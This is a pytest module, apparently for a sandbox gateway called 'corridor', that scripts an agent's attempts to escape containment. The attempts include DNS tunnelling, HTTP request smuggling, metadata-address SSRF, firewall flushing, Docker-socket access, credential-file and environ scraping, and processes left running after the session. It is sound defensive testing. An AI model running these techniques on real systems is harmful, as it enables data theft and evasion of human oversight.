"""The escape suite: an agent inside the sandbox tries every way out we know of.

Each attempt is one row of a table (name, script, the refusal it should meet) and one
test. Attempts that share a policy run in one corridor session (a batch), one after the
other, and each is judged on its own window of what the world saw:
- inside: the script printed at least one BLOCKED line and no ESCAPED line;
- outside: the world's catch-all recorded nothing, the world's DNS saw only A/AAAA
  queries for names the policy allows, and its web servers served only what the attempt
  was allowed to reach (nothing, for all but a few);
- the gateway logged the refusal, with the reason the attempt should meet.
docs/threat-model.md lists every attempt with its outcome.
"""

from __future__ import annotations

import inspect
import shutil
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.escape.harness import Attempt, Batch, fake_home, run_batch, running
from tests.lab.harness import Lab

import corridor.gateway.server

SECRET = "corridor-secret-marker-7f3a"
SECRET_ENV = {
    "AWS_SECRET_ACCESS_KEY": SECRET,
    "GITHUB_TOKEN": SECRET,
    "ANTHROPIC_API_KEY": SECRET,
    "DATABASE_URL": f"postgres://app:{SECRET}@db.test/app",
}
HOST_PORT = 8765  # the host-side TCP service (tests/escape/host_services.py)
DOCKER_SOCK = "/run/corridor-test-docker.sock"
# Docker-like sockets also live outside /run: in homes (colima, Rancher Desktop) and
# under /var (LXD's /var/snap/lxd/common/lxd/unix.socket).
HOME_SOCK = ".colima/default/docker.sock"
VAR_SOCK = "/var/lib/corridor-test/lxd.socket"
ABSTRACT = "corridor-test-abstract"
LEFTOVER = "987.654"  # `sleep 987.654`: a process an attempt leaves behind on purpose
TUNNEL = "6578666967726174696f6e2d74756e6e656c2d64617461"  # data hidden in DNS names
# Dropped UDP is a deny event once the gateway reads the sandbox's drop log
# (gateway/droplog.py); until server.py starts that reader there is no event to expect.
UDP_DROPPED = (
    "dropped: only TCP and DNS leave the sandbox, through the gateway"
    if "watch_drops" in inspect.getsource(corridor.gateway.server)
    else None
)

# ---- batch "web": the policy allows two web hosts and two TCP services by name ------

WEB_POLICY = (
    "--allow", "allowed.test", "--allow", "other.test",
    "--allow", "echo.test:5432", "--allow", "git.test:9418",
)  # fmt: skip
WEB_NAMES = {"allowed.test", "other.test", "echo.test", "git.test"}

WEB: list[Attempt] = [
    Attempt(
        "proxy variables unset, denied name",
        sh="for v in HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; "
        "do unset $v; done; "
        "for u in http://denied.test/ https://denied.test/; do "
        "if curl -sS -m 5 -k -o /dev/null $u 2>/dev/null; then echo ESCAPED $u; "
        "else echo BLOCKED $u; fi; done",
        reason="no rule allows this host",
    ),
    Attempt(
        "proxy variables unset, IP literal",
        sh="for u in http://203.0.113.11/ https://203.0.113.11/; do "
        "if curl -sSf -m 5 -k --noproxy '*' -o /dev/null $u 2>/dev/null; then echo ESCAPED $u; "
        "else echo BLOCKED $u; fi; done",
        reason="ip literal not allowed",
    ),
    Attempt(
        "IP literal through the proxy",
        py="verdict(proxy_get('http://203.0.113.11/') == 200, 'GET by address')\n"
        "verdict(proxy_connect('203.0.113.11:443') == 200, 'CONNECT by address')\n",
        reason="ip literal not allowed",
    ),
    Attempt(
        "address of an allowed name, never resolved",
        py="r = http_get('203.0.113.10', 80, host_header='203.0.113.10')\n"
        "verdict(b'hello' in r, 'allowed.test by its real address')\n",
        reason="ip literal not allowed",
    ),
    Attempt(
        "IPv6 literal",
        py="r = http_get('2001:db8:10::20', 80, host_header='[2001:db8:10::20]')\n"
        "verdict(b'hello' in r, 'dual.test by IPv6 address, transparent')\n"
        "verdict(proxy_connect('[2001:db8:10::20]:443') == 200, 'CONNECT by IPv6 address')\n",
        reason="ip literal not allowed",
    ),
    Attempt(
        "IPv4-mapped IPv6 literal",
        py="r = http_get('::ffff:203.0.113.11', 80, host_header='denied.test')\n"
        "verdict(b'hello' in r, 'mapped address, transparent')\n"
        "verdict(proxy_connect('[::ffff:203.0.113.11]:443') == 200, 'mapped address, CONNECT')\n",
        reason="ip literal not allowed",
    ),
    Attempt(
        "IPv6 unique-local and link-local literals",
        py="r = http_get('fd00::1', 80, host_header='denied.test')\n"
        "verdict(b'hello' in r, 'fd00::1 transparent')\n"
        "verdict(proxy_connect('[fd00::1]:443') == 200, 'CONNECT fd00::1')\n"
        "verdict(proxy_connect('[fe80::1]:443') == 200, 'CONNECT fe80::1')\n",
        reason="ip literal not allowed",
    ),
    Attempt(
        "another DNS server over UDP",
        py="for server in ('203.0.113.53', '198.51.100.53', '2001:db8:53::53'):\n"
        "    rc = dns_rcode(server, 'exfil.denied.test')\n"
        "    verdict(rc == 0, f'UDP query to {server} (rcode {rc})')\n",
        reason="no rule allows this host",
    ),
    Attempt(
        "another DNS server over TCP",
        py="for server in ('203.0.113.53', '2001:db8:53::53'):\n"
        "    rc = dns_rcode(server, 'exfil.denied.test', tcp=True)\n"
        "    verdict(rc == 0, f'TCP query to {server} (rcode {rc})')\n",
        reason="no rule allows this host",
    ),
    Attempt(
        "DNS on another port",
        py="rc = dns_rcode('203.0.113.53', 'exfil.denied.test', port=5353)\n"
        "verdict(rc is not None, f'UDP 5353 (rcode {rc})')\n"
        "rc = dns_rcode('203.0.113.53', 'exfil.denied.test', tcp=True, port=5353)\n"
        "verdict(rc is not None, f'TCP 5353 (rcode {rc})')\n",
    ),
    Attempt(
        "DNS tunnelling through long labels",
        py=f"data = '{TUNNEL}' * 4\n"
        "labels = [data[i:i + 63] for i in range(0, len(data), 63)]\n"
        "for zone in ('denied.test', 'allowed.test'):\n"
        "    name = '.'.join(labels[:3] + [zone])\n"
        "    rc = dns_rcode('127.0.0.53', name)\n"
        "    verdict(rc == 0, f'{len(name)}-character name under {zone} (rcode {rc})')\n"
        "    verdict(resolves(name), f'getaddrinfo under {zone}')\n",
        reason="no rule allows this host",
    ),
    Attempt(
        "DNS tunnelling through many labels",
        py="name = '.'.join(['x'] * 120) + '.allowed.test'\n"
        "rc = dns_rcode('127.0.0.53', name)\n"
        "verdict(rc == 0, f'{name.count(\".\") + 1} labels (rcode {rc})')\n"
        "rc = dns_rcode('127.0.0.53', 'x.' * 126 + 'test')\n"
        "verdict(rc == 0, f'over-long name (rcode {rc})')\n",
        reason="no rule allows this host",
    ),
    Attempt(
        "DNS tunnelling through record types",
        py="import socket\n"
        "for qtype in ('TXT', 'ANY'):\n"
        "    wire = dns_query_wire('allowed.test', qtype)\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)\n"
        "    s.sendto(wire, ('127.0.0.53', 53)); reply = s.recv(4096)\n"
        "    answers = int.from_bytes(reply[6:8], 'big')\n"
        "    verdict(answers > 0, f'{qtype} for an allowed name ({answers} answers)')\n",
    ),
    Attempt(
        "QUIC and other UDP to an allowed host",
        py="import socket\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)\n"
        "dest = socket.getaddrinfo('allowed.test', 443, socket.AF_INET)[0][4]\n"
        "for target in (dest, ('203.0.113.10', 443), ('203.0.113.10', 123)):\n"
        "    try:\n"
        "        u.sendto(b'\\xc0\\x00\\x00\\x00\\x01' + b'q' * 1200, target)\n"
        "        verdict(bool(u.recv(2048)), f'UDP to {target}')\n"
        "    except OSError as e:\n"
        "        blocked(f'UDP to {target}: {e}')\n",
        reason=UDP_DROPPED,
    ),
    Attempt(
        "UDP broadcast and multicast",
        py="import socket\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "u.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
        "for target in (('255.255.255.255', 9), ('224.0.0.251', 5353),"
        " ('239.255.255.250', 1900)):\n"
        "    try:\n"
        "        u.sendto(b'M-SEARCH * HTTP/1.1\\r\\n\\r\\n', target); blocked(f'{target} sent,"
        " dropped')\n"
        "    except OSError as e:\n"
        "        blocked(f'{target}: {e}')\n",
        reason=UDP_DROPPED,
    ),
    Attempt(
        "ICMP echo (IPv4 and IPv6)",
        py="import socket\n"
        "tries = ((socket.AF_INET, socket.IPPROTO_ICMP, '203.0.113.10', b'\\x08'),"
        " (socket.AF_INET6, socket.IPPROTO_ICMPV6, '2001:db8:10::20', b'\\x80'))\n"
        "for fam, proto, dest, kind in tries:\n"
        "    try:\n"
        "        s = socket.socket(fam, socket.SOCK_DGRAM, proto); s.settimeout(1)\n"
        "        s.sendto(kind + b'\\x00\\x00\\x00\\x00\\x01\\x00\\x01leak', (dest, 0))\n"
        "        verdict(bool(s.recv(1024)), f'ping {dest}')\n"
        "    except OSError as e:\n"
        "        blocked(f'ping {dest}: {e}')\n",
    ),
    Attempt(
        "raw and packet sockets",
        py="import socket\n"
        "for args in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),"
        " (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),"
        " (socket.AF_PACKET, socket.SOCK_RAW, 0)):\n"
        "    try:\n"
        "        socket.socket(*args); escaped(f'opened {args}')\n"
        "    except OSError as e:\n"
        "        blocked(f'{args}: {e}')\n",
    ),
    Attempt(
        "CONNECT to a port the rule does not list",
        py="for t in ('allowed.test:22', 'allowed.test:8443', 'echo.test:7'):\n"
        "    verdict(proxy_connect(t) == 200, f'CONNECT {t}')\n",
        reason="no rule allows this port",
    ),
    Attempt(
        "transparent connect to a port the rule does not list",
        py="r = tcp_exchange('allowed.test', 22, b'SSH-2.0-x\\r\\n')\n"
        "verdict(r is not None, 'allowed.test:22')\n"
        "r = tcp_exchange('echo.test', 7, b'ping')\n"
        "verdict(r == b'ping', 'echo.test:7')\n",
        reason="no rule allows this port",
    ),
    Attempt(
        "TLS SNI differs from the resolved name",
        py="for sni in ('denied.test', 'other.test'):\n"
        "    verdict(tls_handshake('allowed.test', 443, sni), f'allowed.test with SNI {sni}')\n",
        reason="SNI denied.test differs from the name resolved",
    ),
    Attempt(
        "TLS SNI differs from the CONNECT host",
        py="import socket, ssl\n"
        "s = socket.create_connection(PROXY)\n"
        "s.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')\n"
        "s.recv(1024)\n"
        "ctx = ssl.create_default_context(cafile='lab-ca.pem')\n"
        "try:\n"
        "    ctx.wrap_socket(s, server_hostname='denied.test'); escaped('handshake')\n"
        "except (OSError, ssl.SSLError) as e:\n"
        "    blocked(f'handshake: {type(e).__name__}')\n",
        reason="SNI denied.test differs from CONNECT host allowed.test",
    ),
    Attempt(
        "TLS without SNI to an address",
        py="verdict(tls_handshake('203.0.113.11', 443, None), 'no SNI')\n",
        reason="no rule allows this address",
    ),
    Attempt(
        "Host differs from the resolved name",
        py="r = http_get('allowed.test', 80, host_header='denied.test')\n"
        "verdict(status_of(r) == 200, f'Host denied.test ({status_of(r)})')\n"
        "r = http_get('allowed.test', 80, 'http://denied.test/', host_header='denied.test')\n"
        "verdict(status_of(r) == 200, f'absolute URI, transparent ({status_of(r)})')\n",
        reason="Host denied.test differs from the name resolved",
    ),
    Attempt(
        "absolute URI differs from Host",
        py="r = via_proxy(b'GET http://allowed.test/ HTTP/1.1\\r\\n'\n"
        "              b'Host: denied.test\\r\\n\\r\\n')\n"
        "verdict(status_of(r) == 200, f'proxy ({status_of(r)})')\n",
        reason="does not match request target",
    ),
    Attempt(
        "request smuggling with Content-Length and Transfer-Encoding",
        py="inner = b'GET http://denied.test/ HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'\n"
        "body = b'0\\r\\n\\r\\n' + inner\n"
        "head = ('POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n'"
        " f'Content-Length: {len(body)}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n').encode()\n"
        "r = via_proxy(head + body)\n"
        "verdict(r.count(b'HTTP/1.1 200') > 0, f'proxy ({status_of(r)})')\n"
        "r = tcp_exchange('allowed.test', 80, head.replace(b'http://allowed.test', b'') + body)\n"
        "verdict(r is not None and b'200 OK' in r, f'transparent ({status_of(r or b\"\")})')\n",
        reason="request smuggling: both Content-Length and Transfer-Encoding",
    ),
    Attempt(
        "request smuggling with two Content-Lengths",
        py="raw = (b'POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n'"
        " b'Content-Length: 0\\r\\nContent-Length: 60\\r\\n\\r\\n'"
        " b'GET http://denied.test/ HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n')\n"
        "r = via_proxy(raw)\n"
        "verdict(b'200' in r.split(b'\\r\\n')[0], f'proxy ({status_of(r)})')\n",
        reason="conflicting Content-Length",
    ),
    Attempt(
        "request smuggling with obs-fold and bare LF",
        py="r = via_proxy(b'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n"
        " denied.test\\r\\n\\r\\n')\n"
        "verdict(status_of(r) == 200, f'obs-fold Host ({status_of(r)})')\n"
        "r = via_proxy(b'GET http://allowed.test/ HTTP/1.1\\nHost: allowed.test\\n"
        "Host: denied.test\\n\\n')\n"
        "verdict(status_of(r) == 200, f'second Host after bare LF ({status_of(r)})')\n",
        reason="malformed HTTP request",
    ),
    Attempt(
        "keep-alive host switching through the proxy",
        py="import socket\n"
        "s = socket.create_connection(PROXY, timeout=5)\n"
        "s.sendall(b'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')\n"
        "first = s.recv(65536)\n"
        "s.sendall(b'GET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')\n"
        "second = b''\n"
        "while chunk := s.recv(65536): second += chunk\n"
        "verdict(status_of(first) != 200, f'control failed: first request ({status_of(first)})')\n"
        "verdict(status_of(second) == 200, f'second host ({status_of(second)})')\n",
        reason="request for other.test on a connection bound to allowed.test",
        world_hosts=("allowed.test",),
    ),
    Attempt(
        "keep-alive host switching on the transparent path",
        py="import socket\n"
        "s = socket.create_connection(('allowed.test', 80), timeout=5)\n"
        "s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')\n"
        "first = s.recv(65536)\n"
        "s.sendall(b'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')\n"
        "second = b''\n"
        "while chunk := s.recv(65536): second += chunk\n"
        "verdict(status_of(first) != 200, f'control failed: first request ({status_of(first)})')\n"
        "verdict(status_of(second) == 200, f'second host ({status_of(second)})')\n",
        reason="Host other.test differs from the name resolved",
        world_hosts=("allowed.test",),
    ),
    Attempt(
        "pipelined requests for two hosts",
        py="raw = (b'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'"
        " b'GET http://other.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')\n"
        "r = via_proxy(raw)\n"
        "verdict(r.count(b'hello from') != 1, 'exactly one answer came back')\n"
        "verdict(b'hello from other.test' in r, 'the second host answered')\n",
        reason="request for other.test on a connection bound to allowed.test",
        world_hosts=("allowed.test",),
    ),
    Attempt(
        "Unicode look-alike host",
        py="spoof = '\\u0430llowed.test'  # Cyrillic a\n"
        "verdict(resolves(spoof), 'getaddrinfo')\n"
        "r = via_proxy(f'GET http://{spoof}/ HTTP/1.1\\r\\nHost: {spoof}\\r\\n\\r\\n'.encode())\n"
        "verdict(status_of(r) == 200, f'UTF-8 bytes to the proxy ({status_of(r)})')\n"
        "puny = spoof.encode('idna').decode()\n"
        "verdict(proxy_get(f'http://{puny}/') == 200, f'punycode {puny}')\n"
        "verdict(tls_handshake('allowed.test', 443, puny), 'punycode SNI')\n",
        reason="no rule allows this host",
    ),
    Attempt(
        "case and trailing-dot variants of a denied name",
        py="for v in ('DENIED.TEST', 'Denied.Test.', 'denied.test.'):\n"
        "    verdict(resolves(v), f'resolve {v}')\n"
        "    verdict(proxy_get(f'http://{v}/') == 200, f'proxy {v}')\n"
        "    verdict(tls_handshake('allowed.test', 443, v), f'SNI {v}')\n",
        reason="no rule allows this host",
    ),
    Attempt(
        "numeric spellings of an address",
        py="for host in ('3405803787', '0xcb00710b', '0313.0.0161.013', '203.0.113.011',"
        " '203.1.011'):\n"
        "    verdict(proxy_get(f'http://{host}/') == 200, f'proxy {host}')\n"
        "    r = tcp_exchange(host, 80, b'GET / HTTP/1.0\\r\\nHost: denied.test\\r\\n\\r\\n')\n"
        "    verdict(r is not None and b'hello' in r, f'transparent {host}')\n",
        reason="numeric host name that is not a dotted-quad IPv4 address",
    ),
    Attempt(
        "made-up synthetic address",
        py="for addr in ('198.18.0.250', 'fd63:6f72:7269:646f::ff00'):\n"
        "    r = tcp_exchange(addr, 80, b'GET / HTTP/1.0\\r\\nHost: denied.test\\r\\n\\r\\n')\n"
        "    verdict(r is not None, addr)\n",
        reason="synthetic address this session's DNS never handed out",
    ),
    Attempt(
        "database port by an address the sandbox never resolved",
        py="r = tcp_exchange('203.0.113.7', 5432, b'\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f')\n"
        "verdict(r is not None, 'echo.test:5432 by address')\n"
        "r = tcp_exchange('203.0.113.61', 9418, b'0032git-upload-pack /x\\x00')\n"
        "verdict(r is not None, 'git.test:9418 by address')\n",
        reason="no rule allows this address",
    ),
    Attempt(
        "git:// and SSH to a denied host",
        sh="git ls-remote git://denied.test/repo >/dev/null 2>&1 && echo ESCAPED git "
        "|| echo BLOCKED git://denied.test; "
        '$PY -c "from sandbox_lib import *; '
        "verdict(tcp_exchange('denied.test', 22, b'SSH-2.0-x\\r\\n') is not None, 'ssh')\"",
        reason="no rule allows this host",
    ),
    Attempt(
        "change the nft rules, routes or interfaces",
        sh="for cmd in 'nft flush ruleset' 'nft delete table inet corridor' "
        "'nft add table inet escape' 'ip route del default' "
        "'ip route add 203.0.113.0/24 dev lo' 'ip link set lo down' "
        "'ip link add x type dummy' 'ip addr add 10.9.9.9/32 dev lo'; do "
        "if $cmd >/dev/null 2>&1; then echo ESCAPED $cmd; else echo BLOCKED $cmd; fi; done; "
        "curl -sS -m 5 --noproxy '*' -o /dev/null http://denied.test/ 2>/dev/null "
        "&& echo ESCAPED after || echo BLOCKED still contained",
        reason="no rule allows this host",
    ),
    Attempt(
        "nested user namespace with root inside",
        sh="for cmd in 'nft flush ruleset' 'ip route del default' 'ip link set lo down'; do "
        "if unshare -Ur $cmd >/dev/null 2>&1; then echo ESCAPED unshare $cmd; "
        "else echo BLOCKED unshare $cmd; fi; done; "
        "unshare -Ur sh -c \"curl -sS -m 5 --noproxy '*' -o /dev/null http://denied.test/\" "
        "2>/dev/null && echo ESCAPED curl || echo BLOCKED curl in the nested namespace",
    ),
    Attempt(
        "nested network namespace",
        sh='unshare -Urn sh -c "ip link set lo up; ip route add default dev lo; '
        '$PY -c \'import socket; socket.create_connection((\\"203.0.113.10\\", 80), 3); '
        'print(\\"ESCAPED connected\\")\'" 2>&1 | grep -q ESCAPED '
        "&& echo ESCAPED nested netns || echo BLOCKED nested network namespace has no way out",
    ),
    Attempt(
        "socket options that steer packets",
        py="import socket\n"
        "for name, level, opt, val in (('SO_MARK', socket.SOL_SOCKET, 36, 1),"
        " ('SO_BINDTODEVICE', socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'lo'),"
        " ('IP_TRANSPARENT', socket.SOL_IP, 19, 1)):\n"
        "    s = socket.socket(); s.settimeout(3)\n"
        "    try:\n"
        "        s.setsockopt(level, opt, val)\n"
        "        s.connect(('203.0.113.10', 80))\n"
        "        s.sendall(b'GET / HTTP/1.0\\r\\nHost: denied.test\\r\\n\\r\\n')\n"
        "        verdict(b'hello' in s.recv(4096), f'{name} set, then a connect')\n"
        "    except OSError as e:\n"
        "        blocked(f'{name}: {e}')\n",
    ),
    Attempt(
        "the gateway's listeners, directly",
        py="r = tcp_exchange('127.0.0.1', 15001, b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
        "verdict(r is not None and b'hello' in r, 'transparent port, straight')\n"
        "r = tcp_exchange('::1', 15001, b'\\x16\\x03\\x01')\n"
        "verdict(r not in (None, b''), 'transparent port over IPv6')\n",
        reason="no original destination",
    ),
    Attempt(
        "find the gateway process",
        py="import os\n"
        "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "found = []\n"
        "for p in pids:\n"
        "    try:\n"
        "        args = open(f'/proc/{p}/cmdline', 'rb').read().split(b'\\0')\n"
        "    except OSError:\n"
        "        continue\n"
        "    if b'-m' in args and b'corridor' in args:\n"
        "        found.append(p)\n"
        "verdict(bool(found), f'corridor among {len(pids)} visible processes')\n"
        "verdict(len(pids) > 20, f'only {len(pids)} processes visible (own pid namespace)')\n",
    ),
    Attempt(
        "processes left running after the session",
        sh=f"setsid sh -c 'trap \"\" HUP TERM INT; exec sleep {LEFTOVER}' "
        ">/dev/null 2>&1 </dev/null & "
        f'$PY -c "import os,time\nif os.fork()==0:\n os.setsid()\n if os.fork()==0:\n'
        f"  os.execvp('sleep',['sleep','{LEFTOVER}1'])\" >/dev/null 2>&1 </dev/null; "
        "echo BLOCKED two daemons started: checked after the session",
        after=f"sleep {LEFTOVER}",
    ),
    Attempt(
        "masked secret files",
        sh="for f in .ssh/id_ed25519 .aws/credentials .netrc .docker/config.json .kube/config "
        ".config/gh/hosts.yml .git-credentials .npmrc .pypirc; do "
        f"if grep -qs {SECRET} ~/$f; then echo ESCAPED $f; else echo BLOCKED $f; fi; done; "
        f"grep -rqs {SECRET} ~ && echo ESCAPED somewhere in the home "
        "|| echo BLOCKED nothing anywhere in the home",
    ),
    Attempt(
        "secret environment variables",
        sh=f"env | grep -q {SECRET} && echo ESCAPED env || echo BLOCKED env; "
        f"cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -q {SECRET} "
        "&& echo ESCAPED /proc/PID/environ || echo BLOCKED every /proc/PID/environ",
    ),
    Attempt(
        "the host's loopback services",
        py=f"port = {HOST_PORT}\n"
        "for host in ('127.0.0.1', '::1', 'localhost'):\n"
        "    verdict(tcp_exchange(host, port, b'hi') is not None, f'{host}:{port} inside')\n"
        "    verdict(proxy_connect(f'{host}:{port}' if ':' not in host else f'[{host}]:{port}')"
        " == 200, f'CONNECT {host}:{port}')\n"
        "    verdict(proxy_get(f'http://{host}:{port}/') == 200, f'GET {host}:{port}')\n",
        reason="ip literal not allowed",
    ),
    Attempt(
        "the host's own addresses",
        py=f"for host in ('192.0.2.2', '2001:db8:1::2', '192.0.2.1'):\n"
        f"    r = tcp_exchange(host, {HOST_PORT}, b'hi')\n"
        "    verdict(r is not None, f'{host} transparent')\n",
        reason="no rule allows this address",
    ),
    Attempt(
        "the host's Docker-like unix socket",
        py="import socket\n"
        f"for path in ('{DOCKER_SOCK}', '/var{DOCKER_SOCK}', '/proc/1/root{DOCKER_SOCK}',"
        " '/var/run/docker.sock', '/run/docker.sock'):\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    try:\n"
        "        s.connect(path); s.sendall(b'GET /containers/json HTTP/1.0\\r\\n\\r\\n')\n"
        "        escaped(path)\n"
        "    except OSError as e:\n"
        "        blocked(f'{path}: {e.strerror}')\n",
    ),
    Attempt(
        "host unix sockets outside /run (home, /var)",
        py="import os, socket\n"
        f"for path in (os.path.expanduser('~/{HOME_SOCK}'), '{VAR_SOCK}'):\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    try:\n"
        "        s.connect(path); escaped(path)\n"
        "    except OSError as e:\n"
        "        blocked(f'{path}: {e.strerror}')\n",
    ),
    Attempt(
        "the host's abstract unix socket",
        py="import socket\n"
        f"for name in ('\\0{ABSTRACT}', '\\0/tmp/.X11-unix/X0'):\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    try:\n"
        "        s.connect(name); escaped(repr(name))\n"
        "    except OSError as e:\n"
        "        blocked(f'{name!r}: {e.strerror}')\n",
    ),
    Attempt(
        "control: an allowed host is reachable",
        sh="curl -sSf -m 10 http://allowed.test/ >/dev/null && echo BLOCKED nothing else: "
        "allowed.test answered || echo ESCAPED control failed",
        world_hosts=("allowed.test",),
    ),
]

# ---- batch "internal": allowed names that resolve where the gateway must not dial ---

INTERNAL_NAMES = (
    "metadata.test", "metadata6.test", "loopback.test", "private.test", "cgnat.test",
    "nat64.test", "mapped.test", "sixtofour.test", "self.test",
)  # fmt: skip
INTERNAL_POLICY = (
    *(arg for name in INTERNAL_NAMES for arg in ("--allow", name)),
    *("--allow", f"loopback.test:{HOST_PORT}", "--allow", f"self.test:{HOST_PORT}"),
    # The lab link is opened for names: the gateway's own address there stays refused.
    *("--unsafe-allow-private", "192.0.2.0/24", "--unsafe-allow-private", "2001:db8:1::/64"),
)


def _internal(title: str, name: str, reason: str, port: int = 80) -> Attempt:
    return Attempt(
        f"allowed name resolving to {title} ({name})",
        py=f"verdict(proxy_get('http://{name}:{port}/latest/meta-data/') == 200, 'proxy')\n"
        f"r = http_get('{name}', {port}, target='/latest/meta-data/')\n"
        "verdict(status_of(r) == 200, f'transparent ({status_of(r)})')\n"
        f"verdict(proxy_connect('{name}:{port}') == 200, 'CONNECT')\n",
        reason=reason,
    )


INTERNAL: list[Attempt] = [
    _internal(
        "the metadata address", "metadata.test", "169.254.169.254 is the cloud metadata address"
    ),
    _internal(
        "the IPv6 metadata address", "metadata6.test", "fd00:ec2::254 is the cloud metadata address"
    ),
    _internal("loopback", "loopback.test", "is a loopback address", HOST_PORT),
    _internal("a private address", "private.test", "10.0.0.5 is a private address (RFC 1918)"),
    _internal(
        "metadata in CGNAT space",
        "cgnat.test",
        "100.100.100.200 is the Alibaba Cloud metadata address",
    ),
    _internal(
        "NAT64 of the metadata address",
        "nat64.test",
        "64:ff9b::a9fe:a9fe carries 169.254.169.254 (NAT64), the cloud metadata address",
    ),
    _internal(
        "a v4-mapped private address", "mapped.test", "10.0.0.5 is a private address (RFC 1918)"
    ),
    _internal(
        "6to4 of a private address",
        "sixtofour.test",
        "2002:a00:5::1 carries 10.0.0.5 (6to4), a private address",
    ),
    _internal(
        "this machine's own address", "self.test", "is an address of this machine", HOST_PORT
    ),
    Attempt(
        "metadata by address, every spelling",
        py="for url in ('http://169.254.169.254/', 'http://[fd00:ec2::254]/',"
        " 'http://[::ffff:169.254.169.254]/', 'http://[64:ff9b::a9fe:a9fe]/',"
        " 'http://2852039166/'):\n"
        "    verdict(proxy_get(url) == 200, url)\n"
        "for addr in ('169.254.169.254', 'fd00:ec2::254', '::ffff:169.254.169.254'):\n"
        "    r = tcp_exchange(addr, 80, b'GET / HTTP/1.0\\r\\nHost: metadata.test\\r\\n\\r\\n')\n"
        "    verdict(r is not None and b'200' in r, f'transparent {addr}')\n",
    ),
]

# ---- batch "audit": audit mode lets policy denials through, never internal addresses --

AUDIT: list[Attempt] = [
    Attempt(
        "audit mode does not open internal addresses",
        py="verdict(proxy_get('http://metadata.test/') == 200, 'metadata.test in audit mode')\n"
        "verdict(proxy_get('http://private.test/') == 200, 'private.test in audit mode')\n",
        reason="169.254.169.254 is the cloud metadata address",
    ),
]

# ---- batch "limits": session caps from the policy -----------------------------------

MAX_CONNECTIONS = 8
MAX_BYTES_OUT = 200_000

LIMITS: list[Attempt] = [
    Attempt(
        "connection flood beyond the session cap",
        py="import socket\n"
        "held, answered = [], 0\n"
        "for _ in range(40):\n"
        "    try:\n"
        "        s = socket.create_connection(('allowed.test', 80), timeout=3)\n"
        "        s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')\n"
        "        held.append(s)\n"
        "    except OSError:\n"
        "        pass\n"
        "for s in held:\n"
        "    try:\n"
        "        answered += s.recv(4096).startswith(b'HTTP/1.1 200')\n"
        "    except OSError:\n"
        "        pass\n"
        f"verdict(answered > {MAX_CONNECTIONS}, f'{{answered}} of 40 held connections served')\n",
        reason=f"session limit of {MAX_CONNECTIONS} concurrent connections reached",
        world_hosts=("allowed.test",),
    ),
    Attempt(
        "upload beyond the session byte cap",
        py="body = b'u' * 1_000_000\n"
        "head = ('POST http://allowed.test/upload HTTP/1.1\\r\\nHost: allowed.test\\r\\n'"
        " f'Content-Length: {len(body)}\\r\\n\\r\\n').encode()\n"
        "import socket\n"
        "s = socket.create_connection(PROXY, timeout=5)\n"
        "try:\n"
        "    s.sendall(head + body); reply = s.recv(4096)\n"
        "except OSError as e:\n"
        "    reply = b''\n"
        "verdict(status_of(reply) == 200, f'1 MB upload ({status_of(reply)})')\n"
        "verdict(proxy_get('http://allowed.test/') == 200, 'a new request after the cap')\n",
        reason=f"session limit of {MAX_BYTES_OUT} bytes sent upstream reached",
        world_hosts=("allowed.test",),
    ),
]


# ---- running the batches --------------------------------------------------------------


@pytest.fixture(scope="module")
def secret_home(tmp_path_factory) -> Path:
    """The web batch's home: secrets where tools keep them, and a Docker-like socket."""
    home = fake_home(tmp_path_factory.mktemp("secret"), SECRET)
    (home / HOME_SOCK).parent.mkdir(parents=True)
    return home


@pytest.fixture(scope="module")
def host_services(lab: Lab, tmp_path_factory, secret_home: Path) -> Iterator[Path]:
    """The host-side services of host_services.py, for the whole module."""
    log = tmp_path_factory.mktemp("host") / "visits.jsonl"
    log.touch()
    script = Path(__file__).with_name("host_services.py")
    Path(VAR_SOCK).parent.mkdir(exist_ok=True)
    sockets = [DOCKER_SOCK, str(secret_home / HOME_SOCK), VAR_SOCK]
    proc = lab.popen([sys.executable, str(script), str(log), str(HOST_PORT), ABSTRACT, *sockets])
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
    yield log
    proc.kill()
    proc.communicate()
    Path(DOCKER_SOCK).unlink(missing_ok=True)
    shutil.rmtree(Path(VAR_SOCK).parent, ignore_errors=True)


@pytest.fixture(scope="module")
def batches(lab: Lab, tmp_path_factory, host_services: Path, secret_home: Path) -> dict[str, Batch]:
    return _LazyBatches(lab, tmp_path_factory, secret_home)


class _LazyBatches(dict):
    """Runs a batch the first time one of its tests asks for it."""

